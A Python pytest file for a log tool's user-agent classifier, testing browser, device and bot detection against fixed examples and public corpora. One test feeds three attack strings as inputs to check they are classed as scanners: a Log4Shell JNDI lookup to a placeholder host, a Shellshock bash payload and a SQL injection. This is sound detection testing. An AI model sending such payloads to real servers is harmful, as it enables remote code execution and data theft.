"""User agents: families against ua-parser's own cases, programs against lists that others keep."""

from __future__ import annotations

import json
import os
import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from crawleruseragents import CRAWLER_USER_AGENTS_DATA
from hypothesis import given
from hypothesis import strategies as st

from logblur.classify import agents
from logblur.classify.agents import BOT_CLASSES, DEVICES, Agent, describe
from logblur.placeholders import NONE

CORPUS = os.environ.get("LOGBLUR_CORPUS")
needs_corpus = pytest.mark.skipif(CORPUS is None, reason="LOGBLUR_CORPUS names no folder")

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"  # noqa: E501


def truth(name: str) -> Any:
    """Return a file of the corpus, decoded."""
    path = Path(CORPUS or "") / "groundtruth" / name
    return (
        json.loads(path.read_text("utf-8"))
        if name.endswith("json")
        else yaml.load(path.read_text("utf-8"), yaml.CSafeLoader)
    )


def texts(tree: Any) -> Iterator[str]:
    """Yield every text of a tree of lists and tables."""
    if isinstance(tree, str):
        yield tree
    elif tree:
        for branch in tree.values() if isinstance(tree, dict) else tree:
            yield from texts(branch)


def test_a_browser_of_a_person() -> None:
    """A common browser gives person, device, system and browser with their major versions."""
    assert describe(CHROME) == Agent("human", "desktop", "Windows", "10 or 11", "Chrome", "120", NONE, NONE)
    assert describe(IPHONE) == Agent("human", "mobile", "iOS", "17", "Mobile Safari", "17", NONE, NONE)


@pytest.mark.parametrize(
    ("text", "bot", "kind"),
    [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", "search"),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            "GPTBot",
            "ai-crawler",
        ),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0",
            "ChatGPT-User",
            "ai-assistant",
        ),
        ("Claude-User/1.0", "Claude-User", "ai-assistant"),
        ("Mozilla/5.0 (compatible; Perplexity-User/1.0)", "Perplexity-User", "ai-assistant"),
        ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "AhrefsBot", "seo"),
        ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "UptimeRobot", "monitor"),
        ("Feedly/1.0 (+http://www.feedly.com/fetcher.html; 3 subscribers)", "Feedly", "feed"),
        ("Mozilla/5.0 zgrab/0.x", "zgrab", "scanner"),
        ("curl/8.5.0", "curl", "library"),
        ("Wget/1.21.3", "Wget", "library"),
        ("python-requests/2.31.0", "python-requests", "library"),
        ("Go-http-client/2.0", "Go-http-client", "library"),
        ("facebookexternalhit/1.1", "facebookexternalhit", "other"),
        ("-", NONE, "other"),
    ],
)
def test_programs_have_a_name_and_a_class(text: str, bot: str, kind: str) -> None:
    """A known program is a bot with its own name and class."""
    assert (describe(text).agent, describe(text).bot, describe(text).bot_class) == ("bot", bot, kind)


_SAFARI = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
_CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0"


@pytest.mark.parametrize(
    ("text", "device", "os_", "major"),
    [
        (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROME} Safari/537.36", "desktop", "Windows", "10 or 11"),
        (
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
            "desktop",
            "Windows",
            "10 or 11",
        ),
        ("Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0", "desktop", "Windows", "7"),
        (
            f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_CHROME} Safari/537.36",
            "desktop",
            "Mac OS X",
            "10 or later",
        ),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:133.0) Gecko/20100101 Firefox/133.0",
            "desktop",
            "Mac OS X",
            "10 or later",
        ),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.9; rv:52.0) Gecko/20100101 Firefox/52.0",
            "desktop",
            "Mac OS X",
            "10",
        ),
        (
            f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) {_SAFARI} Version/26.0 Mobile/15E148 Safari/604.1",
            "mobile",
            "iOS",
            "18 or later",
        ),
        (
            f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) {_SAFARI} Version/18.1 Mobile/15E148 Safari/604.1",
            "mobile",
            "iOS",
            "18",
        ),
        (f"Mozilla/5.0 (Linux; Android 10; K) {_CHROME} Mobile Safari/537.36", "mobile", "Android", NONE),
        (f"Mozilla/5.0 (Linux; Android 10; K) {_CHROME} Safari/537.36", "tablet", "Android", NONE),
        (f"Mozilla/5.0 (Linux; Android 10; Pixel 3) {_CHROME} Mobile Safari/537.36", "mobile", "Android", "10"),
        (f"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) {_CHROME} Safari/537.36", "desktop", "Chrome OS", NONE),
    ],
)
def test_frozen_versions_say_what_they_can_mean(text: str, device: str, os_: str, major: str) -> None:
    """Where browsers froze what they say of the system, the version is what that can mean, and no more."""
    assert describe(text)[1:4] == (device, os_, major)


@pytest.mark.parametrize(
    ("text", "browser"),
    [
        ("Mobile/15E148 [FBAN/FBIOS;FBAV/450.0.0.38.108;FBBV/564431005]", "Facebook"),
        ("Mobile/21E219 Instagram 325.0.3.34.90 (iPhone14,5; iOS 17_4; en_US; scale=3.00; 1170x2532)", "Instagram"),
        ("Mobile/15E148 musical_ly_32.5.0 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/en", "TikTok"),
        ("Mobile/15E148 MicroMessenger/8.0.42(0x18002a2f) NetType/WIFI Language/en", "WeChat Browser"),
        ("Mobile/15E148 Safari Line/13.18.1", "LINE"),
        ("Mobile/15E148 Snapchat/12.60.0.39 (like Safari/604.1)", "Snapchat"),
        ("GSA/277.0.555192628 Mobile/15E148 Safari/604.1", "Google"),
        ("Mobile/15E148 [Pinterest/iOS]", "Pinterest"),
        ("Mobile/15E148", "Mobile Safari UI/WKWebView"),
    ],
)
def test_apps_that_show_pages_are_browsers(text: str, browser: str) -> None:
    """A page seen inside an app counts for the app, where it says its name."""
    found = describe(f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) {_SAFARI} {text}")
    assert (found.agent, found.os, found.browser) == ("human", "iOS", browser)


@pytest.mark.parametrize(
    ("text", "agent"),
    [
        ("Unheardof", "bot"),
        ("Unheardof/1.0", "bot"),
        ("Mozilla/5.0 (compatible; Unheardof/1.0)", "bot"),
        ("Johnny (5) is; alive", "human"),
        (f"Unheardof/1.0 (Windows NT 10.0) {_CHROME}", "human"),
    ],
)
def test_what_no_rule_knows_has_no_name(text: str, agent: str) -> None:
    """A bare name that no rule knows is a program's; whatever it is, the columns are `(none)` and never the text."""
    found = describe(text)
    assert (found.agent, found.bot) == (agent, NONE)
    assert "Unheardof" not in " ".join(found)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Unheard-User/1.0)", "ai-assistant"),
        (f"{_CHROME} (compatible; Unheard AI-Crawler/2.1)", "ai-crawler"),
        (f"{_CHROME} (compatible; Unheard/2.1)", "other"),
        (f"{_CHROME} Unheard/1.0 (https://unheard.example/why)", "other"),
        (f"{_CHROME} UnheardInspector/1.0", "other"),
        ("Mozilla/5.0 (compatible; unheard.com - we look at pages; a, b)", "other"),
        ("unheard.io - looks (at; pages)", "other"),
        ("Unheard/4 (Feed Parser; Allow like Gecko; b)", "feed"),
        ("Mozilla/5.0 (compatible; unheard; 2 subscribers; x=y)", "feed"),
        ("UnheardMonitor/1.0 (Linux; x; y)", "monitor"),
        ("unheard/1.24 grpc-c/8.0.0 (linux; chttp2; ganges)", "library"),
        ("unheard (4.3.1 x86_64-pc-linux-gnu x86_64 linux-gnu)", "library"),
        ("${jndi:ldap://unheard.example/a}", "scanner"),
        ("() { :; }; /bin/bash -c x", "scanner"),
        (f"{_CHROME}'+(select load_file('x.example'))+'", "scanner"),
        ("Mozilla/5.0 (Unheard/1.0)", "other"),
    ],
)
def test_programs_nobody_listed_are_told_by_what_they_do(text: str, kind: str) -> None:
    """Forms that only programs have tell a program that no list knows; it has a class and no name."""
    found = describe(text)
    assert (found.agent, found.bot, found.bot_class) == ("bot", NONE, kind)


@pytest.mark.parametrize(
    "text",
    [
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Embedded Web Browser from: http://bsalsa.com/; .NET)",
        f"{_CHROME} CamScanner/4.5.0",
        "Safari%20Technology%20Preview/15610.1.16.3 CFNetwork/1126 Darwin/19.5.0 (x86_64)",
        "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5",
        "Mozilla/5.0 (Linux; Android 10) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 ProxyFox/11",
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; WOW64; Trident/6.0)",
        "com.example.Mail/8623.2 CFNetwork/3860.400.51 Darwin/25.3.0",
    ],
)
def test_people_with_such_words_stay_people(text: str) -> None:
    """A browser whose name holds a word of programs is still one."""
    assert describe(text).agent == "human"


@pytest.mark.parametrize(
    "text",
    [
        "AliceSmith1975/20260101120000 CFNetwork/808.3 Darwin/16.3.0",
        "alice-smith-1975 bot/1",
        "Chrome/203011301135790",
        "Mozilla/5.0 (compatible; [2001:db8::1] crawler/3)",
        "BlackBerry alice@example.com",
    ],
)
def test_no_text_of_a_client_passes(text: str) -> None:
    """Names come from the rules and versions are short, so that nobody can write into a published column."""
    published = " ".join(describe(text))
    for secret in ("alice", "Alice", "1975", "2026", "2030113", "2001:db8"):
        assert secret not in published


def test_the_check_above_can_fail() -> None:
    """ua-parser itself passes on what a client made up: the closed set of names is what stops it."""
    assert agents.rules().browsers("AliceSmith1975/2 CFNetwork/808.3 Darwin/16.3.0").family == "AliceSmith1975"


@given(st.text(max_size=700))
def test_any_text_is_described(text: str) -> None:
    """Whatever the text, the columns hold values of their closed sets and people have no bot."""
    found = describe(text)
    assert found.agent in {"human", "bot"}
    assert found.device in DEVICES
    assert (found.agent == "human") == (found.bot_class == NONE)
    assert found.bot_class in {*BOT_CLASSES, NONE}
    assert all(found)
    assert found == describe(text)


@pytest.mark.parametrize(
    "text", ["a" * 100_000, "(" * 50_000, "Mozilla/5.0 " + "Android " * 20_000, "Opera/" * 20_000, "\0\n\x1b[31m" * 9]
)
def test_hostile_lengths_cost_nothing(text: str) -> None:
    """Only the first characters are read, so a long agent is described as its beginning is."""
    assert describe(text) == describe(text[: agents.LONGEST])


def test_our_table_is_sound() -> None:
    """Names stand once, classes are the documented ones, and no earlier name hides a later one of another class."""
    table = agents.table()
    assert set(table) == {*BOT_CLASSES, "human"}
    names = [(name, kind) for kind, group in table.items() for name in group]
    assert [n for n, count in Counter(name.lower() for name, _ in names).items() if count > 1] == []
    for at, (name, kind) in enumerate(names):
        hidden_by = [n for n, k in names[:at] if k != kind and n.lower() in name.lower()]
        assert not hidden_by, (name, kind, hidden_by)


def test_names_of_patterns_are_plain() -> None:
    """What the general list's patterns become as names holds neither signs of a pattern nor an e-mail address."""
    for entry in CRAWLER_USER_AGENTS_DATA:
        name = agents.name_of(entry["pattern"])
        assert re.fullmatch(r"[\w .,:;!'&+/-]+", name), name
        assert len(name) <= 60


def test_names_that_are_captured_are_few_and_plain() -> None:
    """The list of known programs is sorted and holds no address of any kind."""
    known = (Path(agents.__file__).with_name("names.txt")).read_text("utf-8").splitlines()
    assert known == sorted(set(known))
    assert [n for n in known if re.search(r"@|://|\d\.\d+\.\d", n) or not n.isascii() or len(n) > 61] == []


@needs_corpus
@pytest.mark.parametrize(("name", "column"), [("test_ua.yaml", "browser"), ("test_os.yaml", "os")])
def test_families_agree_with_uap_core(name: str, column: str) -> None:
    """Families are those of uap-core's cases, nearly always; where they are not, nothing is said."""
    cases = truth(f"ua/uap-core/{name}")["test_cases"]
    expected = [NONE if c["family"] == "Other" else c["family"] for c in cases]
    got = [getattr(describe(c["user_agent_string"]), column) for c in cases]
    assert [(g, e) for g, e in zip(got, expected, strict=True) if g not in {e, NONE}] == []
    share = sum(g == e for g, e in zip(got, expected, strict=True)) / len(cases)
    print(f"{name}: {share:.4f} of {len(cases)} cases")
    assert share >= 0.99


# What device-detector calls by another name than ua-parser, or tells apart where ua-parser does not, and the reverse.
_SAME = {
    "Internet Explorer": {"IE", "IE Mobile"},
    "Chrome Webview": {"Chrome Mobile WebView"},
    "Android Browser": {"Android"},
    "Microsoft Edge": {"Edge", "Edge Mobile"},
    "Samsung Browser": {"Samsung Internet"},
    "Puffin Web Browser": {"Puffin"},
    "Puffin Secure Browser": {"Puffin"},
    "Opera Next": {"Opera"},
    "Opera Touch": {"Opera Touch"},
    "GNOME Web": {"Epiphany"},
    "Elinks": {"ELinks"},
    "QQ Browser": {"QQ Browser Mobile"},
    "Mi Browser": {"MiuiBrowser"},
    "Headless Chrome": {"HeadlessChrome"},
    "Whale Browser": {"Whale"},
    "Seznam Browser": {"Seznam prohl\xed\u017ee\u010d"},
    "DuckDuckGo Privacy Browser": {"DuckDuckGo Mobile"},
    "Mac": {"Mac OS X", "Mac OS"},
    "GNU/Linux": {"Linux"},
    "iPadOS": {"iOS"},
    "tvOS": {"ATV OS X"},
    "webOS": {"Web0S"},
    "Mint": {"Linux Mint"},
}


@needs_corpus
@pytest.mark.parametrize(
    ("name", "browsers", "systems"),
    [("desktop", 0.75, 0.7), ("smartphone", 0.95, 0.95), ("browser", 0.15, 0), ("oss", 0, 0.4)],
)
def test_families_agree_with_device_detector(name: str, browsers: float, systems: float) -> None:
    """Common browsers and systems are those of device-detector; rare ones are often what they are built on."""
    for column, kind, floor in (("browser", "client", browsers), ("os", "os", systems)):
        cases = [
            (case[kind]["name"], getattr(describe(case["user_agent"]), column))
            for case in truth(f"ua/device-detector/{name}.yml")
            if isinstance(case.get(kind), dict)
            and case[kind].get("type", "browser") == "browser"
            and case[kind].get("name")
        ]
        share = sum(got == name or got in _SAME.get(name, ()) for name, got in cases) / max(len(cases), 1)
        print(f"{name}, {column}: {share:.4f} of {len(cases)}")
        assert share >= (floor if cases else 0)


# The words that COUNTER's patterns look for, in the ways in which programs write their names.
_FORMS = ("{}", "{}/1.0", "Mozilla/5.0 (compatible; {}/1.0)", "Mozilla/5.0 (compatible; {}; +http://a.example/)")


def example(pattern: str) -> str | None:
    """Return a text that a pattern of COUNTER's finds, made by plain replacements; None where they do not do."""
    text = re.sub(r"\((?:\\s\|\\\+|\\\+\|\\s)\)|\[(?:\\\+\\s|\\s\\\+)\]|\\s", " ", pattern.strip("^$"))
    text = re.sub(r"\\d(?:\{[^}]*\})?|\[0-9\]", "1", text).replace("[^a]", "z").replace("[_+]", "_").replace("%?", "")
    text = re.sub(r"\(([a-z]+)\)\?", r"\1", re.sub(r"\.\?", "", text))
    text = re.sub(r"\\(.)", r"\1", text)
    return text if re.search(pattern, text, re.I) else None


@needs_corpus
def test_programs_agree_with_the_lists_of_others() -> None:
    """Bots of public lists are bots, browsers of public lists are not."""
    crawlers = [i for entry in truth("bots/crawler-user-agents.json") for i in entry.get("instances", ())]
    patterns = [e["pattern"] for e in truth("bots/COUNTER_Robots_list.json")]
    assistants = list(truth("bots/ai.robots.json"))
    floors = {"crawlers": (crawlers, 0.99)}
    for form in _FORMS:
        made = [(p, text) for p in patterns if (text := example(p)) is not None]
        assert len(made) >= 0.97 * len(patterns)
        counter = [text if p[0] == "^" else form.format(text) for p, text in made]
        floors[f"COUNTER as {form}"] = counter, 0.97
        floors[f"ai.robots as {form}"] = [form.format(a) for a in assistants], 0.98
    for name, (found, floor) in floors.items():
        missed = [text for text in found if describe(text).agent != "bot"]
        print(f"{name}: {1 - len(missed) / len(found):.4f} of {len(found)}")
        assert len(missed) <= (1 - floor) * len(found), (name, missed)
    ceilings = {
        "isbot browsers": (list(texts(truth("bots/isbot_browsers.yml"))), 0.005),
        "firefox": (
            [c["user_agent_string"] for c in truth("ua/uap-core/firefox_user_agent_strings.yaml")["test_cases"]],
            0.0,
        ),
        "smartphones": ([c["user_agent"] for c in truth("ua/device-detector/smartphone.yml")], 0.0),
        "desktops": ([c["user_agent"] for c in truth("ua/device-detector/desktop.yml")], 0.01),
    }
    for name, (found, ceiling) in ceilings.items():
        taken = [text for text in found if describe(text).agent == "bot"]
        print(f"{name}: {len(taken) / len(found):.4f} of {len(found)} taken for bots")
        assert len(taken) <= ceiling * len(found), (name, taken)


@needs_corpus
@pytest.mark.parametrize(("name", "device", "floor"), [("smartphone", "mobile", 0.99), ("desktop", "desktop", 0.85)])
def test_devices_agree_with_device_detector(name: str, device: str, floor: float) -> None:
    """Phones are mobile; desktops are desktops but for Android systems on a desktop, which do not say so."""
    cases = truth(f"ua/device-detector/{name}.yml")
    share = sum(describe(c["user_agent"]).device == device for c in cases) / len(cases)
    print(f"{name}: {share:.4f} of {len(cases)}")
    assert share >= floor
